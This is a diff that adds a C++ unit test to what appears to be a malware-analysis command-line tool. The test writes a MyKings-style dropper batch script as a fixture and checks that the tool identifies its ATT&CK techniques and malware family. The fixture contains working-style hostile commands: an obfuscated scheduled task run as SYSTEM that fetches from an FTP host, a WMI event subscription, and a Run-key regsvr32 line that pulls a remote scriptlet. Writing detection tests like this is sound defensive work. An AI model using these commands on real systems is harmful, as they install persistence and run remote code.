@@ -83,6 +83,32 @@ TEST(Cli, SampleNamesPackersAndKnownHashes) {
   EXPECT_NE(ms({"sample", (dir / "missing.exe").string()}).exit_code, 0);
 }
 
+// `sample` on a MyKings-style dropper: the commands as records and the family from the knowledge base.
+TEST(Cli, SampleReadsADropperScriptAndNamesItsFamily) {
+  test::TempDir dir;
+  test::write_file(
+      dir / "c3.bat",
+      "@echo off\r\nset a=xxschtasksxx\r\nset t=%a:~2,8%\r\n"
+      "%t% /create /tn \"Mysa\" /tr \"cmd /c echo open ftp.ftp1202.site>s&ftp -s:s\" /ru system /sc onstart /F\r\n"
+      "wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE Name=\"fuckyoumm3\", "
+      "EventNameSpace=\"root\\cimv2\"\r\n"
+      "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\" /v start /d \"regsvr32 /u /s "
+      "/i:hxxp://js.mykings[.]top:280/v.sct scrobj.dll\" /f\r\n");
+  auto r = ms({"sample", "--json", (dir / "c3.bat").string()});
+  EXPECT_EQ(r.exit_code, 1) << r.err;
+  const auto j = nlohmann::json::parse(r.out);
+  const auto& s = j["script"];
+  EXPECT_EQ(s["language"], "batch");
+  EXPECT_EQ(s["layers"][0]["name"], "batch variables");
+  std::set<std::string> commands;
+  for (const auto& c : s["commands"])
+    commands.insert(c["kind"].get<std::string>() + " " + c["attack"].get<std::string>());
+  for (auto want :
+       {"scheduled_task T1053.005", "wmi_subscription T1546.003", "registry_run T1547.001", "download T1218.010"})
+    EXPECT_TRUE(commands.count(want)) << want;
+  EXPECT_GE(s["families"]["mykings"].get<int>(), 3);
+}
+
 TEST(Cli, RespondUsageErrorsExitTwo) {
   EXPECT_EQ(ms({"respond", "no-such-case.sqlite", "--apply", "--yes"}).exit_code, 2);
   EXPECT_EQ(ms({"respond", "case.sqlite", "--script", "cmd"}).exit_code, 2);
